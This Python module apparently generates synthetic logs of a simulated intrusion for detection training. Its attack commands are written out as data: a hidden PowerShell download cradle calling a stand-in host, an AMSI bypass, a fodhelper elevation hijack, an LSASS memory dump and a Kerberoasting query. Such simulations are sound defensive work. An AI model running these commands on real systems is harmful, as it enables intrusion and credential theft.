"""Day one, morning and noon: from the mail to the stolen administrator's hash (S01 to S14)."""

from .dice import MINUTE, SECOND, jst
from .machine import Process, SYSTEM32
from .ordinary_unix import EDGE_AGENT
from .directory import ticket
from .ordinary_windows import EDGE, encoded
from .world import C2_HOST, C2_IP, DOWNLOAD_HOST, DOWNLOAD_IP, ITO, SATO, TUNNEL_DOMAIN

POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
IMPLANT = "C:\\Users\\Public\\Libraries\\msvcupd.dll"
RUN_IMPLANT = f"rundll32.exe {IMPLANT},#1"
LOADER = f"IEX (New-Object Net.WebClient).DownloadString('http://{DOWNLOAD_HOST}/a/s.txt')"
PS_AGENT = "Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) WindowsPowerShell/5.1.19041.4522"
MSHTA_AGENT = "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Win64; x64; Trident/7.0; .NET4.0C; .NET4.0E)"


def run(story, machines, logs, day_one):
    pc, dice = machines["WS-KEIRI-03"], story.dice
    session, explorer = day_one
    browser = pc.quiet(explorer, EDGE, f'"{EDGE}"', 7712)
    beacon = first_steps(story, pc, logs, dice, session, explorer, browser)
    channels(story, pc, logs, dice, beacon)
    discovery(story, pc, beacon)
    high = elevation(story, pc, beacon)
    persistence(story, pc, high)
    dump(story, pc, high)
    tickets_and_hash(story, pc, machines, high)


def first_steps(story, pc, logs, dice, session, explorer, browser):
    t, image = jst("14 09:12:08"), "seikyusho_202610.iso"
    with story.step("S01"):
        logs["proxy"].request(
            t,
            pc.ip,
            SATO.user,
            "GET",
            f"http://{DOWNLOAD_HOST}/dl/{image}",
            EDGE_AGENT,
            912,
            1_384_448,
            ("disk_image_download",),
            kind="application/octet-stream",
            referer="https://mail.minato-seiki.example/",
        )
        pc.lookup(t - SECOND, browser, DOWNLOAD_HOST, f"::ffff:{DOWNLOAD_IP};")
    with story.step("S02"):
        path = f"{SATO.profile}\\Downloads\\{image}"
        pc.file(t + 4 * SECOND, browser, path)
        pc.sysmon(
            15,
            t + 5 * SECOND,
            browser,
            ("disk_image_from_internet",),
            TargetFilename=path + ":Zone.Identifier",
            CreationUtcTime="2026-10-14 00:12:12.041",
            Hash="SHA256=" + dice.hex(64).upper(),
            Contents=f"[ZoneTransfer]  ZoneId=3  ReferrerUrl=https://mail.minato-seiki.example/  HostUrl=http://{DOWNLOAD_HOST}/dl/{image}",
        )
    with story.step("S03"):
        t = jst("14 09:14:31")
        pc.file(t - 20 * SECOND, explorer, f"{SATO.profile}\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\請求書.lnk")
        shell = pc.start(
            t,
            explorer,
            "cmd.exe",
            f'"C:\\Windows\\System32\\cmd.exe" /c start /min mshta.exe http://{DOWNLOAD_HOST}/a/q.hta',
            session,
            directory="D:\\",
        )
        mshta = pc.start(
            t + SECOND,
            shell,
            "mshta.exe",
            f"mshta.exe http://{DOWNLOAD_HOST}/a/q.hta",
            original="MSHTA.EXE",
            directory="D:\\",
            rules=("mshta_remote_script",),
        )
        pc.connect(t + 2 * SECOND, mshta, DOWNLOAD_IP, DOWNLOAD_HOST, 80, ("system_binary_calls_out",))
        pc.lookup(t + 2 * SECOND, mshta, DOWNLOAD_HOST, f"::ffff:{DOWNLOAD_IP};", ("system_binary_looks_up_name",))
        logs["proxy"].request(
            t + 2 * SECOND,
            pc.ip,
            SATO.user,
            "GET",
            f"http://{DOWNLOAD_HOST}/a/q.hta",
            MSHTA_AGENT,
            402,
            5120,
            ("script_file_download",),
            kind="application/hta",
        )
    with story.step("S04"):
        t = jst("14 09:14:38")
        loader = pc.start(
            t,
            mshta,
            POWERSHELL,
            f"powershell.exe -nop -w hidden -enc {encoded(LOADER)}",
            original="PowerShell.EXE",
            directory="D:\\",
            rules=("powershell_encoded_download", "powershell_hidden_encoded", "script_host_starts_shell"),
        )
        pc.script(t + SECOND, SATO, LOADER, rules=("script_download_and_run",))
        logs["proxy"].request(
            t + 2 * SECOND,
            pc.ip,
            SATO.user,
            "GET",
            f"http://{DOWNLOAD_HOST}/a/s.txt",
            PS_AGENT,
            377,
            18_204,
            ("script_client_download",),
            kind="text/plain",
        )
        pc.script(
            t + 3 * SECOND,
            SATO,
            "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
            rules=("script_disables_amsi",),
        )
        logs["proxy"].request(
            t + 5 * SECOND,
            pc.ip,
            SATO.user,
            "GET",
            f"http://{DOWNLOAD_HOST}/a/m.bin",
            PS_AGENT,
            381,
            294_912,
            ("script_client_download",),
            kind="application/octet-stream",
        )
        pc.file(t + 7 * SECOND, loader, IMPLANT, rules=("library_dropped_in_public_folder",))
    with story.step("S05"):
        t = jst("14 09:15:02")
        beacon = pc.start(
            t,
            loader,
            "rundll32.exe",
            f'"C:\\Windows\\system32\\rundll32.exe" {IMPLANT},#1',
            original="RUNDLL32.EXE",
            directory="D:\\",
            rules=("rundll32_user_writable_library",),
        )
        pc.load(t + 300_000, beacon, IMPLANT, False, ("unsigned_library_loaded",))
        pc.end(t + 2 * SECOND, loader)
    return beacon


def channels(story, pc, logs, dice, beacon):
    with story.step("S06"):
        t, end, n = jst("14 09:15:10"), jst("15 04:40"), 0
        while t < end:  # every five minutes or so, less by night
            logs["proxy"].request(
                t,
                pc.ip,
                SATO.user,
                "CONNECT",
                f"{C2_HOST}:443",
                EDGE_AGENT,
                dice.between(1800, 4200),
                dice.between(900, 3600),
                kind="-",
            )
            if n % 12 == 0:
                pc.connect(t, beacon, C2_IP, C2_HOST, 443, ("system_binary_calls_out",))
                pc.lookup(t - SECOND, beacon, C2_HOST, f"::ffff:{C2_IP};", ("system_binary_looks_up_name",))
            t, n = t + 5 * MINUTE + dice.between(-40, 40) * SECOND, n + 1
    with story.step("S07"):
        for begin, count in (("14 09:22", 60), ("14 17:40", 45), ("15 01:20", 80)):
            for t in dice.times(jst(begin), jst(begin) + 6 * MINUTE, count):
                logs["dns"].query(
                    t,
                    dice,
                    pc.ip,
                    f"{dice.hex(48)}.{dice.hex(8)}.{TUNNEL_DOMAIN}",
                    "TXT",
                    "TXT 60 " + dice.hex(60),
                    ("dns_txt_tunnel",),
                )


def discovery(story, pc, beacon):
    with story.step("S08"):
        t = jst("14 09:31:12")
        orders = [
            ("whoami.exe", "whoami  /all", ("whoami_all_privileges",)),
            ("systeminfo.exe", "systeminfo", ()),
            ("ipconfig.exe", "ipconfig  /all", ()),
            ("net.exe", 'net  group "Domain Admins" /domain', ("privileged_group_enumeration",)),
            ("net.exe", 'net  group "Enterprise Admins" /domain', ("privileged_group_enumeration",)),
            ("nltest.exe", "nltest  /dclist:corp.minato-seiki.example", ("domain_trust_discovery",)),
            ("nltest.exe", "nltest  /domain_trusts /all_trusts", ("domain_trust_discovery",)),
            ("net.exe", "net  view \\\\FS01 /all", ()),
        ]
        for n, (image, command, rules) in enumerate(orders):
            at = t + n * 47 * SECOND
            shell = pc.start(at, beacon, "cmd.exe", f"C:\\Windows\\system32\\cmd.exe /C {command}")
            pc.end(at + 2 * SECOND, pc.start(at + SECOND, shell, image, command, rules=rules))


def elevation(story, pc, beacon):
    with story.step("S09"):
        t, key = jst("14 09:44:05"), f"HKU\\{SATO.sid}_Classes\\ms-settings\\shell\\open\\command\\"
        pc.registry(t, beacon, key + "DelegateExecute", "(Empty)", ("elevation_handler_hijacked",))
        pc.registry(
            t + SECOND,
            beacon,
            key + "(Default)",
            f"C:\\Windows\\System32\\cmd.exe /c {RUN_IMPLANT}",
            ("elevation_handler_hijacked",),
        )
        helper = pc.start(
            t + 4 * SECOND, beacon, "fodhelper.exe", '"C:\\Windows\\System32\\fodhelper.exe"', integrity="High"
        )
        shell = pc.start(
            t + 5 * SECOND,
            helper,
            "cmd.exe",
            f'"C:\\Windows\\System32\\cmd.exe" /c {RUN_IMPLANT}',
            integrity="High",
            rules=("auto_elevated_program_starts_shell",),
        )
        high = pc.start(
            t + 6 * SECOND,
            shell,
            "rundll32.exe",
            RUN_IMPLANT,
            original="RUNDLL32.EXE",
            integrity="High",
            rules=("rundll32_user_writable_library",),
        )
        pc.load(t + 7 * SECOND, high, IMPLANT, False, ("unsigned_library_loaded",))
    return high


def persistence(story, pc, high):
    with story.step("S10"):
        t = jst("14 09:46:20")
        pc.registry(
            t,
            high,
            f"HKU\\{SATO.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OfficeSync",
            RUN_IMPLANT,
            ("run_key_script_payload",),
        )
        command = f'schtasks  /create /f /sc minute /mo 30 /ru SYSTEM /tn "\\Microsoft\\Office\\OfficeTelemetrySync" /tr "{RUN_IMPLANT}"'
        shell = pc.start(t + 40 * SECOND, high, "cmd.exe", "C:\\Windows\\system32\\cmd.exe /C ver", integrity="High")
        pc.start(
            t + 41 * SECOND, shell, "schtasks.exe", command, integrity="High", rules=("scheduled_task_script_payload",)
        )
        content = (
            '<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Triggers><TimeTrigger><Repetition>'
            '<Interval>PT30M</Interval></Repetition></TimeTrigger></Triggers><Principals><Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>LeastPrivilege</RunLevel></Principal>'
            f'</Principals><Actions Context="Author"><Exec><Command>rundll32.exe</Command><Arguments>{IMPLANT},#1</Arguments></Exec></Actions></Task>'
        )
        pc.emit(
            "sec.4698",
            t + 42 * SECOND,
            {
                **pc.subject(high.session),
                "TaskName": "\\Microsoft\\Office\\OfficeTelemetrySync",
                "TaskContent": content,
            },
            rules=("task_with_script_payload",),
        )
        pc.sysmon(
            20,
            t + 90 * SECOND,
            None,
            ("wmi_command_consumer",),
            EventType="WmiConsumerEvent",
            Operation="Created",
            User=SATO.user,
            Name=' "OfficeSync"',
            Type="Command Line",
            Destination=f' "C:\\\\Windows\\\\System32\\\\rundll32.exe {IMPLANT},#1"',
        )
    with story.step("S11"):
        t = jst("14 10:02:11")
        pc.start(
            t,
            high,
            POWERSHELL,
            "powershell  -c Add-MpPreference -ExclusionPath C:\\Users\\Public\\Libraries",
            original="PowerShell.EXE",
            integrity="High",
            rules=("defender_exclusion_added",),
        )
        pc.script(t + SECOND, SATO, "Add-MpPreference -ExclusionPath C:\\Users\\Public\\Libraries")


def dump(story, pc, high):
    with story.step("S12"):
        t, path = jst("14 10:05:44"), "C:\\Users\\Public\\Libraries\\lsass_update.dmp"
        tool = pc.start(
            t,
            high,
            "rundll32.exe",
            f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 732 {path} full",
            original="RUNDLL32.EXE",
            integrity="High",
            rules=("lsass_dump_command",),
        )
        pc.access(
            t + 200_000,
            tool,
            pc.lsass,
            0x1FFFFF,
            "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6ed0|"
            "C:\\Windows\\System32\\comsvcs.dll+2c20a",
            ("lsass_memory_opened",),
        )
        pc.file(t + SECOND, tool, path, ("lsass_dump_file",))
        pc.end(t + 3 * SECOND, tool)


def tickets_and_hash(story, pc, machines, high):
    dc, second = machines["DC01"], machines["WS-EIGYO-07"]
    with story.step("S13"):
        t = jst("14 10:20:00")
        pc.script(
            t,
            SATO,
            "Add-Type -AssemblyName System.IdentityModel; (New-Object DirectoryServices.DirectorySearcher '(&(servicePrincipalName=*)(!(objectClass=computer)))').FindAll() | "
            "% { New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $_.Properties.serviceprincipalname[0] }",
            rules=("script_requests_service_tickets",),
        )
        for n, service in enumerate(("svc_sql", "svc_backup", "svc_print")):
            ticket(dc, t + (n + 2) * SECOND, "佐藤", service, pc.ip, 0x17, ("rc4_service_ticket",))
    with story.step("S14"):
        t = jst("14 11:05:30")
        pc.start(t - SECOND, high, "cmd.exe", "C:\\Windows\\system32\\cmd.exe", integrity="High")
        stolen = pc.logon(
            t, SATO, 9, "::1", process=SYSTEM32 + "svchost.exe", elevated=True, rules=("logon_with_new_credentials",)
        )
        shell = Process(SYSTEM32 + "cmd.exe", "cmd.exe", 6120, pc.guid(t, 6120), stolen, "High", t)
        order = f"powershell -nop -w hidden -enc {encoded(LOADER)}"
        pc.start(
            t + 40 * SECOND,
            shell,
            SYSTEM32 + "wbem\\WMIC.exe",
            f'wmic  /node:{second.ip} process call create "{order}"',
            rules=("wmic_remote_process",),
        )
        logon = second.logon(t + 42 * SECOND, ITO, 3, pc.ip, "WS-KEIRI-03", "NTLM")
        provider = second.start(
            t + 43 * SECOND,
            second.dcom,
            SYSTEM32 + "wbem\\WmiPrvSE.exe",
            "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
        )
        child = second.start(
            t + 44 * SECOND,
            provider,
            POWERSHELL,
            order,
            logon,
            integrity="High",
            original="PowerShell.EXE",
            rules=("wmi_provider_starts_shell", "powershell_encoded_download", "powershell_hidden_encoded"),
        )
        second.script(t + 46 * SECOND, ITO, LOADER, rules=("script_download_and_run",))
        second.file(t + 50 * SECOND, child, IMPLANT, ("library_dropped_in_public_folder",))
        run = second.start(
            t + 55 * SECOND,
            child,
            "rundll32.exe",
            RUN_IMPLANT,
            logon,
            original="RUNDLL32.EXE",
            integrity="High",
            rules=("rundll32_user_writable_library",),
        )
        second.load(t + 56 * SECOND, run, IMPLANT, False, ("unsigned_library_loaded",))
        second.connect(t + 58 * SECOND, run, C2_IP, C2_HOST, 443, ("system_binary_calls_out",))
